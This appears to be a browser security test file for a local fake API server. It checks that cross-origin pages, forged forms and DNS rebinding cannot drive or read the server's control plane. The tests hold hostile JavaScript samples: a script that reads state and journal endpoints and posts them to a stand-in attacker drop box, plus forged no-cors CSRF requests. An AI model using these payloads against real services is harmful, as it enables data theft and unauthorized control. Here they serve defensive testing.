"""Issue 33, item 7, in a real browser (Chromium, as the dashboard's tests drive it): a web page the
user opens cannot drive or read a fake that has no control token.

A page on another loopback origin tries what worked before: a ``no-cors`` fetch with a
``text/plain`` body moving the clock a year, a plain HTML form resetting the fake, a fault answering
``text/html`` with a script; and a fault's script, opened on the fake's own origin, tries to read
``/_fake/state`` and the journal and send them to the page's server. A second browser that resolves
a foreign name to 127.0.0.1 (the state DNS rebinding ends in) reads the control plane by that name.
Each fails; the dashboard itself, same-origin, keeps working.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route
from starlette.routing import Router as StarletteRouter

from fakes.kernel.server import ServerThread
from fakes.member_export import MemberExportFake

from .conftest import CHROMIUM, LAUNCH_ARGS, SHOWN_WITHIN_MS, expect, loaded, open_dashboard
from .remote import LoopThread, Remote

YEAR_MS = 365 * 86_400_000
STOLEN_WITHIN_S = 3.0
#: what the hostile fault answers: a script that reads the control plane and sends it away
STEALER = """<!DOCTYPE html><html><head><title>fault</title></head><body><script>
document.title = "ran";
Promise.all([fetch("/_fake/state").then(r => r.text()), fetch("/_fake/journal").then(r => r.text())])
  .then(([state, journal]) => fetch("ATTACKER/steal", {method: "POST", mode: "no-cors",
                                                        body: JSON.stringify({state, journal})}));
</script></body></html>"""


class Attacker:
    """A web page's own server on another loopback port: a blank page and a drop box."""

    def __init__(self) -> None:
        self.stolen: list[bytes] = []
        self.lock = threading.Lock()

        async def page(request: Request) -> Response:
            return HTMLResponse("<!DOCTYPE html><html><head><title>a page</title></head><body></body></html>")

        async def steal(request: Request) -> Response:
            body = await request.body()
            with self.lock:
                self.stolen.append(body)
            return Response(b"", 204)

        self.app = StarletteRouter([Route("/", page), Route("/steal", steal, methods=["POST"])])


@pytest.fixture
def attacker() -> Iterator[tuple[Attacker, str]]:
    site = Attacker()
    with ServerThread([(site.app, "127.0.0.1", 0)]) as ((host, port),):
        yield site, f"http://{host}:{port}"


def _attack_from(page: Any, origin: str, fake_base: str) -> None:
    """From a page of ``origin``: the no-cors fetches and the form a hostile page sends."""
    page.goto(origin + "/")
    page.evaluate("""async base => {
        const now = (await fetch(base + "/_fake/health", {mode: "no-cors"}), Date.UTC(2027, 0, 5, 9));
        const send = (path, body, type) => fetch(base + path, {method: "POST", mode: "no-cors",
            headers: {"Content-Type": type}, body}).catch(() => null);
        await send("/_fake/clock", JSON.stringify({set_epoch_ms: now}), "text/plain");
        await send("/_fake/clock", JSON.stringify({set_epoch_ms: now}), "application/x-www-form-urlencoded");
        const rule = {path: "/evil", status: 200, headers: {"Content-Type": "text/html"}, body: "<script>1</script>"};
        await send("/_fake/faults", JSON.stringify(rule), "text/plain");
        await fetch(base + "/_fake/clock", {method: "POST", mode: "no-cors",
            body: new Blob([JSON.stringify({advance_seconds: 86400})])}).catch(() => null);
    }""", fake_base)
    # a plain form: what any page can submit, here into a frame of its own
    page.evaluate("""base => {
        const frame = document.createElement("iframe"); frame.name = "sink"; document.body.appendChild(frame);
        const form = document.createElement("form");
        form.method = "POST"; form.action = base + "/_fake/reset"; form.target = "sink";
        document.body.appendChild(form); form.submit();
    }""", fake_base)
    page.wait_for_timeout(500)  # the form's navigation has gone out and come back


def test_a_page_of_another_origin_cannot_drive_the_fake(browser: Any, attacker: tuple[Attacker, str]) -> None:
    _site, origin = attacker
    fake = MemberExportFake()
    fake.advance(3600)  # a reset would bring it back: the form must not
    with fake.serve() as base:
        started, rules = fake.clock.now_ms(), fake.faults.rules[:]
        context = browser.new_context()
        try:
            _attack_from(context.new_page(), origin, base)
        finally:
            context.close()
        assert fake.clock.now_ms() == started  # neither moved a year, nor a day, nor reset
        assert fake.faults.rules == rules  # no fault added
        refused = [e for e in fake.journal_entries() if e["path"].startswith("/_fake")]
        assert refused == []  # (the control plane is not journaled: nothing reached a route either)
        with httpx.Client(base_url=base) as http:  # the same calls from a program still work
            moved = http.post("/_fake/clock", json={"advance_seconds": 60})
            assert moved.status_code == 200, moved.text
            assert http.post("/_fake/clock", content=b'{"advance_seconds": 60}',
                             headers={"Content-Type": "text/plain"}).status_code == 415


def test_a_fault_answer_runs_no_script_on_the_fakes_origin(browser: Any, attacker: tuple[Attacker, str]) -> None:
    site, origin = attacker
    fake = MemberExportFake()
    fake.add_fault(path="/evil", status=200, headers={"Content-Type": "text/html"},
                   body=STEALER.replace("ATTACKER", origin))
    with fake.serve() as base:
        context = browser.new_context()
        try:
            page = context.new_page()
            answer = page.goto(base + "/evil")
            assert answer is not None and answer.status == 200
            assert "sandbox" in answer.headers["content-security-policy"]
            deadline = time.monotonic() + STOLEN_WITHIN_S
            while time.monotonic() < deadline and not site.stolen:
                time.sleep(0.1)
            assert page.title() != "ran"  # the script never ran
        finally:
            context.close()
    assert site.stolen == []


def test_the_dashboard_itself_still_drives_the_fake(browser: Any) -> None:
    fake = MemberExportFake()
    with open_dashboard(browser, fake) as board:
        loaded(board)
        board.page.get_by_role("button", name="+1 hour").click()
        expect(board.page.locator("#clock-now")).to_have_text("2026-01-05T10:00:00Z", timeout=SHOWN_WITHIN_MS)


@pytest.fixture(scope="module")
def rebinding_browser(browser: Any) -> Iterator[Any]:
    """A second Chromium that resolves ``rebound.test`` to 127.0.0.1, as a browser does once an
    attacker's DNS answer for their own name points at the loopback address."""
    from playwright.async_api import async_playwright

    runner = LoopThread()
    playwright = runner.run(lambda: async_playwright().start())
    args = [*LAUNCH_ARGS, "--host-resolver-rules=MAP rebound.test 127.0.0.1"]
    try:
        launched = runner.run(lambda: playwright.chromium.launch(executable_path=CHROMIUM, args=args))
        try:
            yield Remote(launched, runner)
        finally:
            runner.run(launched.close)
    finally:
        runner.run(playwright.stop)
        runner.stop()


def test_a_foreign_host_cannot_read_the_control_plane(rebinding_browser: Any) -> None:
    fake = MemberExportFake()
    with fake.serve() as base:
        port = base.rsplit(":", 1)[1]
        context = rebinding_browser.new_context()
        try:
            page = context.new_page()
            public = page.goto(f"http://rebound.test:{port}/openapi.json")  # the public API answers any name
            assert public is not None and public.status == 200
            seen = page.evaluate("""async () => {
                const state = await fetch("/_fake/state"), reset = await fetch("/_fake/reset", {method: "POST"});
                return [state.status, await state.text(), reset.status];
            }""")
        finally:
            context.close()
    status, body, reset = seen
    assert (status, reset) == (421, 421), seen
    assert json.loads(body)["error"] == "unknown_host" and "--allowed-hosts" in json.loads(body)["message"]
